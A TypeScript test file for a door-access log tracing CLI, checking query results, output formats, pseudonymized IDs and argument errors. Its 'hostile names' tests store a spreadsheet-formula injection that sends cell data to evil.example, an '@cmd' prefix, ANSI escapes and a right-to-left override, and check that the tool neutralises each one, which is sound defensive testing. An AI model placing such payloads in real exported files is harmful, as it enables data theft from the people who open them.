/**
 * `qrgate trace` as a process (the built CLI) over generated data, answers checked against the brute-force
 * oracle, on SQLite and PostgreSQL; output forms; the picture; pseudonymized subjects; argument errors.
 */
import { spawn } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { PostgresEntryStore } from "../../src/centre/postgres-entry-store.js";
import { SqliteEntryStore } from "../../src/centre/sqlite-entry-store.js";
import type { EntryStore } from "../../src/centre/entry-store.js";
import { pseudonymize } from "../../src/contract/pseudonym.js";
import { generateDataset, makeEntry, oracle, subjectId } from "./generate.js";
import { dropSchema, randomSchema, schemaUrl } from "./postgres-support.js";

const CLI = resolve(import.meta.dirname, "../../dist/src/cli/main.js");
const dir = mkdtempSync(join(tmpdir(), "qrgate-trace-"));
const sqliteFile = join(dir, "centre.db");
const schema = randomSchema();
const pgUrl = schemaUrl(schema);
const data = generateDataset(777, 2000, 50, 8);
const KEY = "site-secret-key";
const CLEAR = "079201000042";
const HASHED = pseudonymize(CLEAR, KEY);
const T = Date.parse("2021-08-01T02:00:00.000Z");
const hashedEntries = [
  makeEntry({ tsMs: T, subject: HASHED, site: "clinic-9" }),
  makeEntry({ tsMs: T + 60_000, subject: pseudonymize("079201000043", KEY), site: "clinic-9" }),
];

interface Result {
  code: number | null;
  out: string;
  err: string;
}

function trace(args: string[], env: Record<string, string> = {}): Promise<Result> {
  return new Promise((done) => {
    const child = spawn(process.execPath, [CLI, "trace", ...args], { stdio: ["ignore", "pipe", "pipe"], env: { ...process.env, ...env } });
    let out = "";
    let err = "";
    child.stdout.on("data", (d: Buffer) => (out += d.toString("utf8")));
    child.stderr.on("data", (d: Buffer) => (err += d.toString("utf8")));
    child.once("exit", (code) => done({ code, out, err }));
  });
}

async function load(store: EntryStore): Promise<void> {
  await store.migrate();
  for (let i = 0; i < data.entries.length; i += 500) await store.insertEntries(data.entries.slice(i, i + 500));
  await store.insertEntries(hashedEntries);
  await store.close();
}

beforeAll(async () => {
  if (!existsSync(CLI)) throw new Error(`${CLI} is missing: build first (npx tsc -p tsconfig.build.json)`);
  await load(new SqliteEntryStore(sqliteFile));
  await load(new PostgresEntryStore(pgUrl));
});

afterAll(async () => {
  rmSync(dir, { recursive: true, force: true });
  await dropSchema(schema);
});

// Three hours in the middle of the data, typed as local time in Ho Chi Minh City (UTC+7).
const from = "2021-08-01 08:00";
const to = "2021-08-01 11:00";
const f = { fromMs: Date.parse("2021-08-01T01:00:00Z"), toMs: Date.parse("2021-08-01T04:00:00Z") };

describe.each([
  { name: "SQLite", db: () => sqliteFile },
  { name: "PostgreSQL", db: () => pgUrl },
])("trace on $name answers like the ground truth", ({ db }) => {
  it("--door SITE/DEVICE/DOOR", async () => {
    for (const d of data.doors) {
      const r = await trace(["--db", db(), "--door", `${d.site}/${d.device}/${d.door}`, "--from", from, "--to", to, "--json"]);
      expect(r.code).toBe(0);
      expect(JSON.parse(r.out)).toEqual(oracle.door(data.entries, d, f));
    }
  });

  it("--site S --door DEVICE/DOOR and --site S --device X --door D name the same door", async () => {
    const d = data.doors[2]!;
    const a = await trace(["--db", db(), "--site", d.site, "--door", `${d.device}/${d.door}`, "--from", from, "--to", to, "--json"]);
    const b = await trace(["--db", db(), "--site", d.site, "--device", d.device, "--door", d.door, "--from", from, "--to", to, "--json"]);
    expect(JSON.parse(a.out)).toEqual(oracle.door(data.entries, d, f));
    expect(b.out).toBe(a.out);
  });

  it("--door D --site S counts every reader of the door", async () => {
    const r = await trace(["--db", db(), "--door", "main", "--site", "market-1", "--from", from, "--to", to, "--json"]);
    expect(r.code).toBe(0);
    const got = JSON.parse(r.out) as { device: string }[];
    expect(got).toEqual(oracle.siteDoor(data.entries, { site: "market-1", door: "main" }, f));
    expect(new Set(got.map((e) => e.device))).toEqual(new Set(["gate-1", "gate-2"]));
  });

  it("--contacts --scope site counts any door of the site", async () => {
    const s = data.subjects[1]!;
    const r = await trace(["--db", db(), "--contacts", s, "--window", "5m", "--scope", "site", "--from", from, "--to", to, "--json"]);
    expect(r.code).toBe(0);
    expect(JSON.parse(r.out)).toEqual(oracle.contacts(data.entries, s, 5 * 60_000, { ...f, scope: "site" }));
  });

  it("--site", async () => {
    const r = await trace(["--db", db(), "--site", "hospital-2", "--from", from, "--to", to, "--json", "--include-denied"]);
    expect(JSON.parse(r.out)).toEqual(oracle.site(data.entries, "hospital-2", { ...f, includeDenied: true }));
  });

  it("--subject", async () => {
    const s = data.subjects[3]!;
    const r = await trace(["--db", db(), "--subject", s, "--from", from, "--to", to, "--json"]);
    expect(JSON.parse(r.out)).toEqual(oracle.subject(data.entries, s, f));
  });

  it("--contacts --window", async () => {
    for (const s of data.subjects.slice(0, 5)) {
      const r = await trace(["--db", db(), "--contacts", s, "--window", "15m", "--from", from, "--to", to, "--json"]);
      expect(r.code).toBe(0);
      expect(JSON.parse(r.out)).toEqual(oracle.contacts(data.entries, s, 15 * 60_000, f));
    }
  });
});

describe("output", () => {
  it("prints an aligned table in the display zone by default", async () => {
    const d = data.doors[0]!;
    const r = await trace(["--db", sqliteFile, "--door", `${d.site}/${d.device}/${d.door}`, "--from", from, "--to", to]);
    const lines = r.out.trimEnd().split("\n");
    expect(lines[0]).toMatch(/^time \(Asia\/Ho_Chi_Minh\)\s+site\s+device\s+door\s+subject\s+decision\s+reason$/);
    const first = oracle.door(data.entries, d, f)[0]!;
    const local = new Date(Date.parse(first.ts) + 7 * 3_600_000).toISOString().slice(0, 19).replace("T", " ");
    expect(lines[2]!.startsWith(local)).toBe(true);
    expect(lines[lines.length - 1]).toMatch(/^\d+ passages$/);
  });

  it("shows UTC times with --tz UTC", async () => {
    const s = data.subjects[3]!;
    const r = await trace(["--db", sqliteFile, "--subject", s, "--from", "2021-08-01T01:00:00Z", "--to", "2021-08-01T04:00:00Z", "--tz", "UTC"]);
    const first = oracle.subject(data.entries, s, f)[0]!;
    expect(r.out.split("\n")[2]!.startsWith(first.ts.slice(0, 19).replace("T", " "))).toBe(true);
  });

  it("prints CSV with a header and one row per passage", async () => {
    const s = data.subjects[3]!;
    const r = await trace(["--db", sqliteFile, "--subject", s, "--from", from, "--to", to, "--csv"]);
    const rows = r.out.trimEnd().split("\r\n");
    expect(rows[0]).toBe("ts,local_time,site,device,door,subject,decision,reason,kind,id");
    expect(rows).toHaveLength(oracle.subject(data.entries, s, f).length + 1);
  });

  it("ranks contacts in the table and the CSV", async () => {
    const s = data.subjects[0]!;
    const want = oracle.contacts(data.entries, s, 15 * 60_000, f);
    const table = await trace(["--db", sqliteFile, "--contacts", s, "--window", "15m", "--from", from, "--to", to]);
    expect(table.out).toContain(`window ±15m`);
    expect(table.out).toContain(`${want.length} contacts`);
    const csv = await trace(["--db", sqliteFile, "--contacts", s, "--window", "15m", "--from", from, "--to", to, "--csv"]);
    const rows = csv.out.trimEnd().split("\r\n");
    expect(rows[0]).toBe("rank,subject,shared_passages,closest_seconds,passages,first_ts,last_ts,doors");
    expect(rows[1]!.split(",").slice(0, 3)).toEqual(["1", want[0]!.subject, String(want[0]!.sharedPassages)]);
  });

  it("draws the contacts as a self-contained HTML page and SVG", async () => {
    const s = data.subjects[0]!;
    const html = join(dir, "trace.html");
    const svg = join(dir, "trace.svg");
    const r = await trace(["--db", sqliteFile, "--contacts", s, "--window", "15m", "--from", from, "--to", to, "--html", html, "--svg", svg]);
    expect(r.code).toBe(0);
    const page = readFileSync(html, "utf8");
    const picture = readFileSync(svg, "utf8");
    expect(page).toMatch(/^<!doctype html>/);
    expect(page).toContain("<svg");
    expect(picture).toMatch(/^<svg xmlns="http:\/\/www.w3.org\/2000\/svg"/);
    const want = oracle.contacts(data.entries, s, 15 * 60_000, f);
    expect(picture).toContain(want[0]!.subject);
    // Nothing fetched from elsewhere: no scripts, no links, no external fonts or images.
    for (const doc of [page, picture]) expect(doc).not.toMatch(/<script|<link|@import|url\(|href=|src=/i);
  });
});

describe("pseudonymized sites", () => {
  it("--subject with --key finds the keyed hash of the clear ID", async () => {
    const r = await trace(["--db", sqliteFile, "--subject", CLEAR, "--key", KEY, "--from", from, "--to", to, "--json"]);
    expect((JSON.parse(r.out) as { id: string }[]).map((e) => e.id)).toEqual([hashedEntries[0]!.id]);
  });

  it("--contacts with a key file writes the hash, never the clear ID", async () => {
    const keyFile = join(dir, "site.key");
    writeFileSync(keyFile, KEY + "\n");
    const html = join(dir, "hashed.html");
    const r = await trace(["--db", sqliteFile, "--contacts", CLEAR, "--key-file", keyFile, "--window", "5m", "--from", from, "--to", to, "--html", html]);
    expect(r.code).toBe(0);
    expect(r.out).toContain(HASHED);
    expect(r.out).toContain("1 contact");
    expect(r.out + r.err + readFileSync(html, "utf8")).not.toContain(CLEAR);
  });

  it("takes the key from QRGATE_SITE_KEY", async () => {
    const r = await trace(["--db", sqliteFile, "--subject", CLEAR, "--from", from, "--to", to, "--json"], { QRGATE_SITE_KEY: KEY });
    expect(JSON.parse(r.out)).toHaveLength(1);
  });
});

describe("arguments", () => {
  it("prints its options with --help", async () => {
    const r = await trace(["--help"]);
    expect(r.code).toBe(0);
    expect(r.out).toContain("--contacts ID --window 15m");
  });

  it.each([
    [["--door", "a/b/c", "--from", "2021-08-01"], "--from and --to are required"],
    [["--from", "2021-08-01", "--to", "2021-08-02"], "ask a question"],
    [["--subject", "1", "--contacts", "2", "--from", "2021-08-01", "--to", "2021-08-02"], "one question at a time"],
    [["--contacts", "1", "--from", "2021-08-01", "--to", "2021-08-02"], "--window"],
    [["--contacts", "1", "--window", "soon", "--from", "2021-08-01", "--to", "2021-08-02"], "not a duration"],
    [["--door", "main", "--from", "2021-08-01", "--to", "2021-08-02"], "a door is --door D --site S"],
    [["--site", "x", "--from", "2021-08-02", "--to", "2021-08-01"], "--to must be after --from"],
    [["--site", "x", "--from", "tomorrow", "--to", "2021-08-01"], "is not a time"],
    [["--site", "x", "--from", "2021-08-01", "--to", "2021-08-02", "--tz", "Mars/Olympus"], "unknown time zone"],
    [["--site", "x", "--from", "2021-08-01", "--to", "2021-08-02", "--html", "x.html"], "use them with --contacts"],
    [["--site", "x", "--from", "2021-08-01", "--to", "2021-08-02", "--bogus"], "Unknown option"],
    [["--contacts", "1", "--window", "5m", "--scope", "city", "--from", "2021-08-01", "--to", "2021-08-02"], "expected door or site"],
    [["--site", "x", "--scope", "site", "--from", "2021-08-01", "--to", "2021-08-02"], "--scope goes with --contacts"],
    [["--db", "/nonexistent/centre.db", "--site", "x", "--from", "2021-08-01", "--to", "2021-08-02"], "cannot open"],
  ])("%j -> one line, exit 2", async (args, message) => {
    const r = await trace(["--db", sqliteFile, ...args]);
    expect(r.code).toBe(2);
    expect(r.err.trim().split("\n")).toHaveLength(1);
    expect(r.err).toContain(message);
  });

  it("says so when the file holds no centre data", async () => {
    const empty = join(dir, "empty.db");
    new SqliteEntryStore(empty).database.exec("CREATE TABLE t (x)");
    const r = await trace(["--db", empty, "--site", "x", "--from", "2021-08-01", "--to", "2021-08-02"]);
    expect(r.code).toBe(2);
    expect(r.err).toContain("holds no centre data");
  });

  it("finds nobody politely", async () => {
    const r = await trace(["--db", sqliteFile, "--contacts", subjectId(999), "--window", "15m", "--from", from, "--to", to]);
    expect(r.code).toBe(0);
    expect(r.out).toContain("(no contacts)");
  });
});

describe("hostile names and big answers", () => {
  const odd = join(dir, "odd.db");
  const big = join(dir, "big.db");
  const T0 = Date.parse("2021-08-01T02:00:00.000Z");
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';

  beforeAll(async () => {
    const s = new SqliteEntryStore(odd);
    await s.migrate();
    await s.insertEntries([makeEntry({ tsMs: T0, site: "odd", door: formula }), makeEntry({ tsMs: T0 + 1, site: "odd", door: "@cmd" })]);
    // A database written before the collector refused control characters: rows as they were stored then.
    const raw = s.database.prepare(
      `INSERT INTO entries (id, ts_ms, site, device, door, decision, reason, kind, subject, latency_ms, status_version, stale, received_ms)
       VALUES (?, ?, 'odd', 'gate-1', ?, 'allow', 'ok', 'cccd', ?, 1, 1, 0, 0)`,
    );
    raw.run(makeEntry().id, T0 + 2, "\u001b[2J\u001b[31mmain", subjectId(1));
    raw.run(makeEntry().id, T0 + 3, "exit\u202etixe", subjectId(2));
    await s.close();

    const b = new SqliteEntryStore(big);
    await b.migrate();
    const insert = b.database.prepare(
      `INSERT INTO entries (id, ts_ms, site, device, door, decision, reason, kind, subject, latency_ms, status_version, stale, received_ms)
       VALUES (?, ?, 'big', 'gate-1', 'main', 'allow', 'ok', 'cccd', ?, 1, 1, 0, 0)`,
    );
    b.database.transaction(() => {
      for (let i = 0; i < 130_000; i++) insert.run(makeEntry().id, T0 + i * 10, subjectId(i % 99_999));
    })();
    await b.close();
  });

  const range = ["--from", "2021-08-01T00:00:00Z", "--to", "2021-08-02T00:00:00Z"];

  it("neutralises spreadsheet formulas in --csv", async () => {
    const r = await trace(["--db", odd, "--site", "odd", ...range, "--csv"]);
    expect(r.code).toBe(0);
    expect(r.out).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(r.out).toContain(",'@cmd,");
    expect(r.out).not.toMatch(/,=HYPERLINK|,"=HYPERLINK|,@cmd/);
  });

  it("prints ANSI escapes and right-to-left overrides escaped in the table and the JSON", async () => {
    const table = await trace(["--db", odd, "--site", "odd", ...range]);
    expect(table.code).toBe(0);
    expect(table.out).toContain("\\u001b[2J\\u001b[31mmain");
    expect(table.out).toContain("exit\\u202etixe");
    const json = await trace(["--db", odd, "--site", "odd", ...range, "--json"]);
    for (const out of [table.out, json.out]) {
      expect(out).not.toContain("\u001b");
      expect(out).not.toContain("\u202e");
    }
    expect((JSON.parse(json.out) as { door: string }[]).map((e) => e.door)).toContain("exit\u202etixe");
  });

  it("writes --out, --html and --svg files readable by their owner only, also over a wider existing file", async () => {
    const out = join(dir, "answer.csv");
    const html = join(dir, "contacts.html");
    const svg = join(dir, "contacts.svg");
    writeFileSync(out, "old", { mode: 0o644 });
    const a = await trace(["--db", odd, "--site", "odd", ...range, "--csv", "--out", out]);
    const b = await trace(["--db", odd, "--contacts", subjectId(1), "--window", "15m", ...range, "--html", html, "--svg", svg]);
    expect([a.code, b.code]).toEqual([0, 0]);
    expect(a.out).toBe("");
    expect(readFileSync(out, "utf8")).toContain("'@cmd");
    for (const f of [out, html, svg]) expect(statSync(f).mode & 0o777).toBe(0o600);
  });

  it("prints a table of 130,000 passages", async () => {
    const r = await trace(["--db", big, "--site", "big", ...range]);
    expect(r.err).toBe("");
    expect(r.code).toBe(0);
    const lines = r.out.trimEnd().split("\n");
    expect(lines).toHaveLength(130_003);
    expect(lines.at(-1)).toBe("130000 passages");
  }, 60_000);

  it.each([
    [["--site", "odd", "--out", "/nonexistent-dir/a.csv"], "does not exist"],
    [["--contacts", "001099000001", "--window", "5m", "--html", "/nonexistent-dir/a.html"], "does not exist"],
    [["--site", "odd", "--out", "/"], "is a folder"],
    [["--site", "o\u001b[31md"], "\\u001b"],
  ])("refuses an unusable output path or a bad name with one line and exit 2: %j", async (args, message) => {
    const r = await trace(["--db", odd, ...range, ...args]);
    expect(r.code).toBe(2);
    expect(r.err.trim().split("\n")).toHaveLength(1);
    expect(r.err).toContain(message);
    expect(r.err).not.toContain("\u001b");
  });
});
